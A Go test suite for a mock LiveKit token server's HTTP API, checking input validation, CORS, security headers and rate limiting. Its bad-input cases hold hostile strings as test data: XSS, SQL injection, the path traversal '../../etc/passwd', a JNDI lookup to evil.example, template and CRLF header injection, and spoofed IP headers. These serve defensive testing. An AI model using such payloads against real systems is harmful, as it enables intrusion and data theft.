package httpapi

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/livekit-mock/livekit-mock/internal/auth"
	"github.com/livekit-mock/livekit-mock/internal/config"
)

// testConfig is the default configuration with overrides.
func testConfig(t *testing.T, env map[string]string) *config.Config {
	t.Helper()
	cfg, err := config.Load(nil, func(k string) string { return env[k] }, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	return cfg
}

type testServer struct {
	*httptest.Server
	cfg *config.Config
}

func newTestServer(t *testing.T, env map[string]string) *testServer {
	t.Helper()
	cfg := testConfig(t, env)
	return &testServer{Server: serveDeps(t, cfg, nil, Deps{}), cfg: cfg}
}

type reply struct {
	status int
	header http.Header
	body   map[string]any
	raw    string
	close  bool // the server asked to close the connection
}

func (s *testServer) do(t *testing.T, method, path, body string, hdr map[string]string) reply {
	t.Helper()
	req, err := http.NewRequest(method, s.URL+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if body != "" || method == http.MethodPost {
		req.Header.Set("Content-Type", "application/json")
	}
	for k, v := range hdr {
		if v == "" {
			req.Header.Del(k)
		} else {
			req.Header.Set(k, v)
		}
	}
	resp, err := s.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(resp.Body)
	r := reply{status: resp.StatusCode, header: resp.Header, raw: string(raw), close: resp.Close}
	_ = json.Unmarshal(raw, &r.body)
	return r
}

func (s *testServer) mint(t *testing.T, body string) reply {
	return s.do(t, http.MethodPost, "/api/livekit/token", body, nil)
}

// claimsOf decodes a token's payload without verifying it.
func claimsOf(t *testing.T, tok string) map[string]any {
	t.Helper()
	parts := strings.Split(tok, ".")
	if len(parts) != 3 {
		t.Fatalf("token %q", tok)
	}
	b, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	return m
}

func TestTokenSuccessShape(t *testing.T) {
	s := newTestServer(t, nil)
	r := s.mint(t, `{"roomName":"test-room","participantName":"alice"}`)
	if r.status != 200 {
		t.Fatalf("status %d %s", r.status, r.raw)
	}
	for _, k := range []string{"token", "serverUrl", "expiresIn", "identity", "roomName", "expiresAt"} {
		if _, ok := r.body[k]; !ok {
			t.Errorf("missing %s in %s", k, r.raw)
		}
	}
	if id := r.body["identity"].(string); !strings.HasPrefix(id, "user_") || len(id) != len("user_")+36 {
		t.Errorf("identity %q, want user_<uuid>", id)
	}
	if r.body["serverUrl"] != "ws://localhost:7880" || r.body["expiresIn"].(float64) != 3600 {
		t.Errorf("serverUrl/expiresIn: %s", r.raw)
	}
	if _, err := time.Parse("2006-01-02T15:04:05.000Z", r.body["expiresAt"].(string)); err != nil {
		t.Errorf("expiresAt %v not RFC 3339 UTC with ms", r.body["expiresAt"])
	}
	if ct := r.header.Get("Content-Type"); ct != "application/json; charset=utf-8" {
		t.Errorf("content type %q", ct)
	}
	claims, err := auth.NewVerifier(s.cfg.Keys, time.Now).Verify(r.body["token"].(string))
	if err != nil {
		t.Fatal(err)
	}
	if claims.Identity != r.body["identity"] || claims.Name != "alice" || claims.Video.Room != "test-room" || !claims.Video.RoomJoin ||
		!claims.Video.GetCanPublish() || !claims.Video.GetCanSubscribe() || !claims.Video.GetCanPublishData() || claims.Video.GetCanUpdateOwnMetadata() {
		t.Errorf("claims %+v video %+v", claims, claims.Video)
	}
	if claims.ExpiresAt.Sub(claims.NotBefore) != time.Hour {
		t.Errorf("ttl %v", claims.ExpiresAt.Sub(claims.NotBefore))
	}
}

func TestTokenGrantsAndOptions(t *testing.T) {
	s := newTestServer(t, map[string]string{"RATE_LIMIT_MAX": "0"})
	r := s.mint(t, `{"roomName":"r","participantName":"u","participantIdentity":"bob","canPublish":false,"canSubscribe":false,"canPublishData":false,"canUpdateOwnMetadata":true,"ttl":120,"metadata":"{\"a\":1}","roomAdmin":true,"__proto__":{"admin":true}}`)
	if r.status != 200 {
		t.Fatalf("%d %s", r.status, r.raw)
	}
	c := claimsOf(t, r.body["token"].(string))
	v := c["video"].(map[string]any)
	if c["sub"] != "bob" || c["metadata"] != `{"a":1}` || v["canPublish"] != false || v["canSubscribe"] != false ||
		v["canPublishData"] != false || v["canUpdateOwnMetadata"] != true || v["roomAdmin"] != nil {
		t.Fatalf("claims %v", c)
	}
	if c["exp"].(float64)-c["nbf"].(float64) != 120 || r.body["expiresIn"].(float64) != 120 {
		t.Fatalf("ttl: %v", c)
	}
	if c["jti"] == nil || c["iss"] != "devkey" {
		t.Fatalf("jti/iss: %v", c)
	}
}

func errorOf(r reply) (string, string) {
	e, _ := r.body["error"].(string)
	c, _ := r.body["code"].(string)
	return e, c
}

// TestBadInputs walks security.md §9 A and B for the token endpoint.
func TestBadInputs(t *testing.T) {
	pad := func(n int) string { // a valid body of exactly n bytes
		base := `{"roomName":"r","participantName":"u","metadata":""}`
		return strings.Replace(base, `"metadata":""`, `"metadata":"`+strings.Repeat("x", n-len(base))+`"`, 1)
	}
	cases := []struct {
		name   string
		body   string
		hdr    map[string]string
		policy string
		status int
		code   string
		msg    string
	}{
		{"A1 1025 bytes", pad(1025), nil, "", 413, "payload_too_large", "Request payload too large"},
		{"A4 1024 bytes", pad(1024), nil, "", 400, "invalid_argument", ""}, // metadata over 512 B under strict
		{"A5 text/plain", `{"roomName":"r","participantName":"u"}`, map[string]string{"Content-Type": "text/plain"}, "", 415, "unsupported_media_type", "Content-Type must be application/json"},
		{"A6 no content type", `{"roomName":"r","participantName":"u"}`, map[string]string{"Content-Type": ""}, "", 415, "unsupported_media_type", ""},
		{"A7 latin1", `{"roomName":"r","participantName":"u"}`, map[string]string{"Content-Type": "application/json; charset=latin1"}, "", 415, "unsupported_media_type", ""},
		{"A8 UTF-8 charset", `{"roomName":"r","participantName":"u"}`, map[string]string{"Content-Type": "application/json; charset=UTF-8"}, "", 200, "", ""},
		{"A9 gzip", `{"roomName":"r","participantName":"u"}`, map[string]string{"Content-Encoding": "gzip"}, "", 415, "unsupported_media_type", "Content-Encoding not supported"},
		{"A10 truncated", `{"roomName":"r","participantName":`, nil, "", 400, "invalid_json", "Invalid JSON body"},
		{"A11 trailing", `{"roomName":"r","participantName":"u"} trailing`, nil, "", 400, "invalid_json", "Invalid JSON body"},
		{"A12 empty", ``, nil, "", 400, "invalid_argument", "Room name and participant name are required"},
		{"A13 null", `null`, nil, "", 400, "invalid_json", ""},
		{"A13 string", `"str"`, nil, "", 400, "invalid_json", ""},
		{"A13 number", `42`, nil, "", 400, "invalid_json", ""},
		{"A14 array", `[]`, nil, "", 400, "invalid_json", ""},
		{"A14 array of object", `[{"roomName":"r","participantName":"u"}]`, nil, "", 400, "invalid_json", ""},
		{"A15 bad utf8", "{\"roomName\":\"r\xff\",\"participantName\":\"u\"}", nil, "", 400, "invalid_json", ""},
		{"B1", `{"participantName":"u"}`, nil, "", 400, "invalid_argument", "Room name and participant name are required"},
		{"B2", `{"roomName":"r"}`, nil, "", 400, "invalid_argument", "Room name and participant name are required"},
		{"B3", `{"roomName":"","participantName":"u"}`, nil, "", 400, "invalid_argument", "Room name and participant name are required"},
		{"B4", `{"roomName":"   ","participantName":"u"}`, nil, "", 400, "invalid_argument", ""},
		{"B5", `{"roomName":123,"participantName":"u"}`, nil, "", 400, "invalid_argument", "roomName must be a string"},
		{"B6", `{"roomName":["r"],"participantName":{"a":1}}`, nil, "", 400, "invalid_argument", "roomName must be a string"},
		{"B7", `{"roomName":null,"participantName":"u"}`, nil, "", 400, "invalid_argument", "roomName must be a string"},
		{"B8", `{"roomName":true,"participantName":false}`, nil, "", 400, "invalid_argument", ""},
		{"B9 strict 200", `{"roomName":"` + strings.Repeat("a", 200) + `","participantName":"u"}`, nil, "", 400, "invalid_argument", ""},
		{"B9 livekit 200", `{"roomName":"` + strings.Repeat("a", 200) + `","participantName":"u"}`, nil, "livekit", 200, "", ""},
		{"B9 livekit 300", `{"roomName":"` + strings.Repeat("a", 300) + `","participantName":"u"}`, nil, "livekit", 400, "invalid_argument", ""},
		{"B10", `{"roomName":"r","participantName":"u","participantIdentity":"` + strings.Repeat("a", 2000) + `"}`, nil, "", 413, "payload_too_large", ""},
		{"B11 strict", `{"roomName":"<script>alert(1)</script>","participantName":"u"}`, nil, "", 400, "invalid_argument", ""},
		{"B11 livekit", `{"roomName":"<script>alert(1)</script>","participantName":"u"}`, nil, "livekit", 200, "", ""},
		{"B12", `{"roomName":"r","participantName":"u","participantIdentity":"\"><img src=x onerror=alert(1)>"}`, nil, "", 400, "invalid_argument", ""},
		{"B13", `{"roomName":"' OR '1'='1","participantName":"u"}`, nil, "", 400, "invalid_argument", ""},
		{"B13 livekit", `{"roomName":"r'; DROP TABLE rooms;--","participantName":"u"}`, nil, "livekit", 200, "", ""},
		{"B14", `{"roomName":"../../etc/passwd","participantName":"u"}`, nil, "", 400, "invalid_argument", ""},
		{"B15", `{"roomName":"r","participantName":"u","participantIdentity":"${jndi:ldap://evil.example/a}"}`, nil, "", 400, "invalid_argument", ""},
		{"B16", `{"roomName":"{{7*7}}","participantName":"u"}`, nil, "", 400, "invalid_argument", ""},
		{"B17 identity", `{"roomName":"r","participantName":"u","participantIdentity":"alice\r\nX-Injected: 1"}`, nil, "livekit", 400, "invalid_argument", ""},
		{"B17 name", `{"roomName":"r","participantName":"alice\r\nX-Injected: 1"}`, nil, "", 400, "invalid_argument", ""},
		{"B18", `{"roomName":"room\u0000x","participantName":"u"}`, nil, "livekit", 400, "invalid_argument", ""},
		{"B19 rtl", `{"roomName":"a\u202Eb","participantName":"u"}`, nil, "livekit", 400, "invalid_argument", ""},
		{"B19 zero width", `{"roomName":"a\u200Bb","participantName":"u"}`, nil, "livekit", 400, "invalid_argument", ""},
		{"B20", `{"roomName":"\ud800","participantName":"u"}`, nil, "livekit", 400, "invalid_argument", ""},
		{"B21 strict", `{"roomName":"会议室","participantName":"Zoë","participantIdentity":"zoë"}`, nil, "", 400, "invalid_argument", ""},
		{"B21 livekit", `{"roomName":"会议室","participantName":"Zoë","participantIdentity":"zoë"}`, nil, "livekit", 200, "", ""},
		{"B22 identity", `{"roomName":"r","participantName":"u","participantIdentity":"😀"}`, nil, "", 400, "invalid_argument", ""},
		{"B22 name", `{"roomName":"r","participantName":"😀"}`, nil, "", 200, "", ""},
		{"B23 case variant ignored", `{"roomName":"r","participantName":"u","ROOMNAME":"x"}`, nil, "", 200, "", ""},
		{"B23 only case variant", `{"RoomName":"r","participantName":"u"}`, nil, "", 400, "invalid_argument", "Room name and participant name are required"},
		{"B25 duplicate key last wins", `{"roomName":"a","roomName":"b","participantName":"u"}`, nil, "", 200, "", ""},
		{"B26 ttl low", `{"roomName":"r","participantName":"u","ttl":30}`, nil, "", 400, "invalid_argument", ""},
		{"B26 ttl high", `{"roomName":"r","participantName":"u","ttl":90000}`, nil, "", 400, "invalid_argument", ""},
		{"ttl fraction", `{"roomName":"r","participantName":"u","ttl":90.5}`, nil, "", 400, "invalid_argument", ""},
		{"ttl string", `{"roomName":"r","participantName":"u","ttl":"3600"}`, nil, "", 400, "invalid_argument", ""},
		{"canPublish string", `{"roomName":"r","participantName":"u","canPublish":"false"}`, nil, "", 400, "invalid_argument", "canPublish must be a boolean"},
	}
	servers := map[string]*testServer{
		"":        newTestServer(t, map[string]string{"RATE_LIMIT_MAX": "0"}),
		"livekit": newTestServer(t, map[string]string{"RATE_LIMIT_MAX": "0", "NAME_POLICY": "livekit"}),
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := servers[tc.policy].do(t, http.MethodPost, "/api/livekit/token", tc.body, tc.hdr)
			if r.status != tc.status {
				t.Fatalf("status %d, want %d: %s", r.status, tc.status, r.raw)
			}
			msg, code := errorOf(r)
			if code != tc.code || (tc.msg != "" && msg != tc.msg) {
				t.Fatalf("got %s, want code %q msg %q", r.raw, tc.code, tc.msg)
			}
			if tc.status >= 400 && r.header.Get("Content-Type") != "application/json; charset=utf-8" {
				t.Fatalf("content type %q", r.header.Get("Content-Type"))
			}
			if tc.status == 413 && !r.close {
				t.Fatal("413 without Connection: close")
			}
			// Errors never echo the raw input.
			if tc.status == 400 && strings.Contains(r.raw, "script") {
				t.Fatalf("echoed input: %s", r.raw)
			}
		})
	}
}

func TestValuesStayEscapedUnderLiveKitPolicy(t *testing.T) {
	s := newTestServer(t, map[string]string{"NAME_POLICY": "livekit"})
	r := s.mint(t, `{"roomName":"<script>alert(1)</script>","participantName":"Zoë","participantIdentity":"zoë"}`)
	if r.status != 200 || !strings.Contains(r.raw, `\u003cscript\u003e`) || strings.Contains(r.raw, "<script>") {
		t.Fatalf("%d %s", r.status, r.raw)
	}
	c := claimsOf(t, r.body["token"].(string))
	if c["sub"] != "zoë" || c["name"] != "Zoë" || c["video"].(map[string]any)["room"] != "<script>alert(1)</script>" {
		t.Fatalf("claims %v", c)
	}
}

func TestDuplicateKeyLastWins(t *testing.T) {
	s := newTestServer(t, nil)
	r := s.mint(t, `{"roomName":"a","roomName":"b","participantName":"u"}`)
	if r.body["roomName"] != "b" {
		t.Fatalf("%s", r.raw)
	}
}

func TestChunkedAndLyingBodies(t *testing.T) {
	s := newTestServer(t, nil)
	// A3: a 2 KiB chunked body.
	pr, pw := io.Pipe()
	go func() {
		pw.Write([]byte(`{"roomName":"r","participantName":"u","metadata":"`))
		pw.Write(bytes.Repeat([]byte("x"), 2048))
		pw.Write([]byte(`"}`))
		pw.Close()
	}()
	req, _ := http.NewRequest(http.MethodPost, s.URL+"/api/livekit/token", pr)
	req.Header.Set("Content-Type", "application/json")
	resp, err := s.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 413 || req.ContentLength != 0 && req.ContentLength != -1 {
		t.Fatalf("chunked: %d", resp.StatusCode)
	}
	// A2: Content-Length 5000 with 10 bytes sent: refused at once.
	addr := strings.TrimPrefix(s.URL, "http://")
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "POST /api/livekit/token HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n0123456789", addr)
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	line := make([]byte, 12)
	if _, err := io.ReadFull(c, line); err != nil || string(line) != "HTTP/1.1 413" {
		t.Fatalf("lying length: %q %v", line, err)
	}
}

func TestRoutingAnswers(t *testing.T) {
	s := newTestServer(t, nil)
	r := s.do(t, http.MethodGet, "/api/livekit/token", "", nil)
	if r.status != 405 || r.header.Get("Allow") != "POST" || r.body["error"] != "Method not allowed" {
		t.Fatalf("A16: %d %v %s", r.status, r.header.Get("Allow"), r.raw)
	}
	r = s.do(t, http.MethodPost, "/api/livekit/token/", `{}`, nil)
	if r.status != 404 || r.body["error"] != "Endpoint not found" || r.body["code"] != "not_found" {
		t.Fatalf("A17: %d %s", r.status, r.raw)
	}
	r = s.do(t, http.MethodGet, "/nope", "", nil)
	if r.status != 404 || r.body["error"] != "Endpoint not found" || r.header.Get("X-Frame-Options") != "SAMEORIGIN" {
		t.Fatalf("404: %d %s", r.status, r.raw)
	}
}

func TestSecurityHeadersOnEveryStatus(t *testing.T) {
	s := newTestServer(t, map[string]string{"RATE_LIMIT_MAX": "1"})
	reqs := []struct {
		method, path, body string
		hdr                map[string]string
		want               int
	}{
		{"POST", "/api/livekit/token", `{"roomName":"r","participantName":"u"}`, nil, 200},
		{"POST", "/api/livekit/token", `{"roomName":"r","participantName":"u"}`, nil, 429},
		{"POST", "/api/livekit/token", `{`, nil, 400},
		{"POST", "/api/livekit/token", `{}`, map[string]string{"Origin": "http://evil.example"}, 403},
		{"GET", "/nope", "", nil, 404},
		{"POST", "/api/livekit/token", strings.Repeat("x", 2000), nil, 413},
		{"POST", "/api/livekit/token", `{}`, map[string]string{"Content-Type": "text/plain"}, 415},
		{"OPTIONS", "/api/livekit/token", "", map[string]string{"Origin": "http://localhost:3000", "Access-Control-Request-Method": "POST"}, 204},
		{"GET", "/health", "", nil, 200},
	}
	for _, rq := range reqs {
		r := s.do(t, rq.method, rq.path, rq.body, rq.hdr)
		if r.status != rq.want {
			t.Fatalf("%s %s: %d, want %d (%s)", rq.method, rq.path, r.status, rq.want, r.raw)
		}
		for k, v := range map[string]string{
			"X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer", "X-Frame-Options": "SAMEORIGIN",
			"Strict-Transport-Security": "max-age=31536000; includeSubDomains", "X-XSS-Protection": "0",
			"Cross-Origin-Opener-Policy": "same-origin", "Cross-Origin-Resource-Policy": "same-origin", "Origin-Agent-Cluster": "?1",
			"X-DNS-Prefetch-Control": "off", "X-Download-Options": "noopen", "X-Permitted-Cross-Domain-Policies": "none",
		} {
			if got := r.header.Get(k); got != v {
				t.Errorf("%d: %s = %q", r.status, k, got)
			}
		}
		if !strings.Contains(r.header.Get("Content-Security-Policy"), "connect-src 'self' ws: wss:") || r.header.Get("X-Powered-By") != "" {
			t.Errorf("%d: CSP %q", r.status, r.header.Get("Content-Security-Policy"))
		}
	}
}

func TestCORS(t *testing.T) {
	s := newTestServer(t, map[string]string{"RATE_LIMIT_MAX": "0"})
	valid := `{"roomName":"r","participantName":"u"}`
	// C2
	r := s.do(t, "POST", "/api/livekit/token", valid, map[string]string{"Origin": "http://localhost:3000"})
	if r.status != 200 || r.header.Get("Access-Control-Allow-Origin") != "http://localhost:3000" ||
		r.header.Get("Access-Control-Allow-Credentials") != "true" || !strings.Contains(r.header.Get("Vary"), "Origin") ||
		!strings.Contains(r.header.Get("Access-Control-Expose-Headers"), "Ratelimit-Remaining") ||
		!strings.Contains(r.header.Get("Access-Control-Expose-Headers"), "Retry-After") {
		t.Fatalf("C2: %d %v", r.status, r.header)
	}
	// C3, C5, C6: refused before the handler.
	for _, o := range []string{"http://evil.example", "null", "http://localhost:3000.evil.example", "https://localhost:3000", "http://localhost:30000"} {
		r = s.do(t, "POST", "/api/livekit/token", valid, map[string]string{"Origin": o})
		if r.status != 403 || r.body["error"] != "Origin not allowed" || r.body["code"] != "origin_not_allowed" ||
			r.header.Get("Access-Control-Allow-Origin") != "" || r.header.Get("Access-Control-Allow-Credentials") != "" ||
			!strings.Contains(r.header.Get("Vary"), "Origin") || r.header.Get("RateLimit-Limit") != "" {
			t.Fatalf("%s: %d %s %v", o, r.status, r.raw, r.header)
		}
	}
	// C4: no Origin, and the server's own origin.
	if r = s.do(t, "POST", "/api/livekit/token", valid, nil); r.status != 200 {
		t.Fatalf("C4 none: %d", r.status)
	}
	if r = s.do(t, "POST", "/api/livekit/token", valid, map[string]string{"Origin": s.URL}); r.status != 200 {
		t.Fatalf("C4 own: %d", r.status)
	}
	// C7
	if r = s.do(t, "POST", "/api/livekit/token", valid, map[string]string{"Origin": "HTTP://LOCALHOST:3000"}); r.status != 200 ||
		r.header.Get("Access-Control-Allow-Origin") != "HTTP://LOCALHOST:3000" {
		t.Fatalf("C7: %d %v", r.status, r.header)
	}
	// C8, with the header list in browser order and in other forms.
	for _, acrh := range []string{"authorization,content-type", "Content-Type, Authorization"} {
		r = s.do(t, "OPTIONS", "/api/livekit/token", "", map[string]string{"Origin": "http://localhost:3000", "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": acrh, "Content-Type": ""})
		if r.status != 204 || r.header.Get("Access-Control-Allow-Origin") != "http://localhost:3000" ||
			r.header.Get("Access-Control-Allow-Methods") != "POST" || r.header.Get("Access-Control-Allow-Headers") != "authorization,content-type" ||
			r.header.Get("Access-Control-Allow-Credentials") != "true" || r.header.Get("RateLimit-Limit") != "" || r.header.Get("X-Frame-Options") == "" {
			t.Fatalf("C8 %q: %d %v", acrh, r.status, r.header)
		}
	}
	// C9
	r = s.do(t, "OPTIONS", "/api/livekit/token", "", map[string]string{"Origin": "http://evil.example", "Access-Control-Request-Method": "POST", "Content-Type": ""})
	if r.status != 403 || r.body["code"] != "origin_not_allowed" {
		t.Fatalf("C9: %d %s", r.status, r.raw)
	}
	// C10, C11: 204 without ACA* headers.
	for _, h := range []map[string]string{
		{"Origin": "http://localhost:3000", "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "x-evil", "Content-Type": ""},
		{"Origin": "http://localhost:3000", "Access-Control-Request-Method": "PUT", "Content-Type": ""},
	} {
		r = s.do(t, "OPTIONS", "/api/livekit/token", "", h)
		if r.status != 204 || r.header.Get("Access-Control-Allow-Origin") != "" {
			t.Fatalf("C10/C11: %d %v", r.status, r.header)
		}
	}
	// ops group: no origin policy.
	if r = s.do(t, "GET", "/health", "", map[string]string{"Origin": "http://evil.example"}); r.status != 200 {
		t.Fatalf("/health with a foreign origin: %d", r.status)
	}
}

// A preflight advertises only the route's own methods: DELETE on the mint
// route (C11) or on an unknown path gets a 204 with no ACA* headers.
func TestPreflightMethodsFollowTheRoute(t *testing.T) {
	s := newTestServer(t, nil)
	ask := func(path, method string) reply {
		return s.do(t, "OPTIONS", path, "", map[string]string{"Origin": "http://localhost:3000", "Access-Control-Request-Method": method, "Content-Type": ""})
	}
	for _, c := range []struct{ path, method string }{
		{"/api/livekit/token", "DELETE"}, {"/api/livekit/token", "GET"}, {"/token/validate", "DELETE"},
		{"/livekit/status", "POST"}, {"/no/such/route", "GET"}, {"/api/livekit/token/", "POST"},
	} {
		r := ask(c.path, c.method)
		if r.status != 204 || r.header.Get("Access-Control-Allow-Origin") != "" || r.header.Get("Access-Control-Allow-Methods") != "" {
			t.Errorf("%s %s: %d %v", c.method, c.path, r.status, r.header)
		}
	}
	for _, c := range []struct{ path, method string }{
		{"/api/livekit/token", "POST"}, {"/token/validate", "POST"}, {"/livekit/status", "GET"},
	} {
		r := ask(c.path, c.method)
		if r.status != 204 || r.header.Get("Access-Control-Allow-Origin") != "http://localhost:3000" || r.header.Get("Access-Control-Allow-Methods") != c.method {
			t.Errorf("%s %s: %d %v", c.method, c.path, r.status, r.header)
		}
	}
}

func TestCORSStarAndEmpty(t *testing.T) {
	star := newTestServer(t, map[string]string{"ALLOWED_ORIGINS": "*"})
	r := star.do(t, "POST", "/api/livekit/token", `{"roomName":"r","participantName":"u"}`, map[string]string{"Origin": "http://anything.example"})
	if r.status != 200 || r.header.Get("Access-Control-Allow-Origin") != "*" || r.header.Get("Access-Control-Allow-Credentials") != "" {
		t.Fatalf("star: %d %v", r.status, r.header)
	}
	none := newTestServer(t, map[string]string{"ALLOWED_ORIGINS": " "})
	if r = none.do(t, "POST", "/api/livekit/token", `{"roomName":"r","participantName":"u"}`, map[string]string{"Origin": "http://localhost:3000"}); r.status != 403 {
		t.Fatalf("empty list allowed a cross origin: %d", r.status)
	}
	if r = none.do(t, "POST", "/api/livekit/token", `{"roomName":"r","participantName":"u"}`, nil); r.status != 200 {
		t.Fatalf("empty list refused an Origin-less request: %d", r.status)
	}
}

func TestRateLimitHeadersAndCount(t *testing.T) {
	s := newTestServer(t, nil)
	valid := `{"roomName":"r","participantName":"u"}`
	for i := 1; i <= 10; i++ {
		r := s.mint(t, valid)
		if r.status != 200 || r.header.Get("RateLimit-Policy") != "10;w=60" || r.header.Get("RateLimit-Limit") != "10" ||
			r.header.Get("RateLimit-Remaining") != fmt.Sprint(10-i) || r.header.Get("X-RateLimit-Limit") != "" {
			t.Fatalf("request %d: %d %v", i, r.status, r.header)
		}
		if reset := r.header.Get("RateLimit-Reset"); reset != "60" && reset != "59" {
			t.Fatalf("reset %q", reset)
		}
	}
	r := s.mint(t, valid)
	if r.status != 429 || r.body["error"] != "Too many requests from this IP, please try again later." || r.body["code"] != "rate_limited" ||
		r.header.Get("Retry-After") == "" || r.header.Get("Retry-After") != r.header.Get("RateLimit-Reset") ||
		fmt.Sprint(r.body["retryAfter"]) != r.header.Get("Retry-After") || r.header.Get("RateLimit-Remaining") != "0" {
		t.Fatalf("11th: %d %s %v", r.status, r.raw, r.header)
	}
	// C21: other groups are not limited and carry no RateLimit headers.
	if r = s.do(t, "GET", "/health", "", nil); r.status != 200 || r.header.Get("RateLimit-Limit") != "" {
		t.Fatalf("health: %d %v", r.status, r.header)
	}
}

func TestParallelRequestsGiveExactlyTen(t *testing.T) {
	s := newTestServer(t, nil)
	var wg sync.WaitGroup
	var mu sync.Mutex
	counts := map[int]int{}
	for i := range 15 {
		wg.Go(func() {
			req, _ := http.NewRequest("POST", s.URL+"/api/livekit/token", strings.NewReader(`{"roomName":"r","participantName":"u"}`))
			req.Header.Set("Content-Type", "application/json")
			// C13: a spoofed forwarding header changes nothing.
			req.Header.Set("X-Forwarded-For", fmt.Sprintf("10.0.0.%d", i))
			req.Header.Set("X-Real-IP", fmt.Sprintf("10.1.0.%d", i))
			req.Header.Set("CF-Connecting-IP", fmt.Sprintf("10.2.0.%d", i))
			req.Header.Set("Forwarded", fmt.Sprintf("for=10.3.0.%d", i))
			resp, err := s.Client().Do(req)
			if err != nil {
				t.Error(err)
				return
			}
			resp.Body.Close()
			mu.Lock()
			counts[resp.StatusCode]++
			mu.Unlock()
		})
	}
	wg.Wait()
	if counts[200] != 10 || counts[429] != 5 {
		t.Fatalf("got %v, want 10×200 and 5×429", counts)
	}
}

func TestTrustedProxyIsBelieved(t *testing.T) {
	s := newTestServer(t, map[string]string{"TRUSTED_PROXIES": "127.0.0.1/32", "RATE_LIMIT_MAX": "1"})
	for i := range 3 {
		r := s.do(t, "POST", "/api/livekit/token", `{"roomName":"r","participantName":"u"}`, map[string]string{"X-Forwarded-For": fmt.Sprintf("192.0.2.%d", i)})
		if r.status != 200 {
			t.Fatalf("client %d behind a trusted proxy got %d", i, r.status)
		}
	}
}

func TestQuotaUseFollowsCheckOrder(t *testing.T) {
	s := newTestServer(t, nil)
	// C16: oversized and malformed bodies use no quota.
	for range 10 {
		s.mint(t, strings.Repeat("x", 2000))
		if r := s.mint(t, `{"roomName":`); r.header.Get("RateLimit-Limit") != "" {
			t.Fatal("malformed body reached the limiter")
		}
	}
	if r := s.mint(t, `{"roomName":"r","participantName":"u"}`); r.status != 200 || r.header.Get("RateLimit-Remaining") != "9" {
		t.Fatalf("C16: %d %v", r.status, r.header)
	}
	// C15: field errors after the limiter use quota.
	for range 4 {
		if r := s.mint(t, `{"participantName":"u"}`); r.status != 400 || r.header.Get("RateLimit-Limit") == "" {
			t.Fatalf("field error: %d %v", r.status, r.header)
		}
	}
	for i := range 5 {
		if r := s.mint(t, `{"roomName":"r","participantName":"u"}`); r.status != 200 {
			t.Fatalf("valid %d: %d", i, r.status)
		}
	}
	if r := s.mint(t, `{"roomName":"r","participantName":"u"}`); r.status != 429 {
		t.Fatalf("11th overall: %d", r.status)
	}
}

func TestHealth(t *testing.T) {
	s := newTestServer(t, nil)
	r := s.do(t, "GET", "/health", "", nil)
	if r.status != 200 || r.body["status"] != "healthy" || r.body["version"] != Version {
		t.Fatalf("%d %s", r.status, r.raw)
	}
	for _, k := range []string{"timestamp", "rooms", "participants", "connections", "uptimeSeconds"} {
		if _, ok := r.body[k]; !ok {
			t.Errorf("missing %s", k)
		}
	}
}
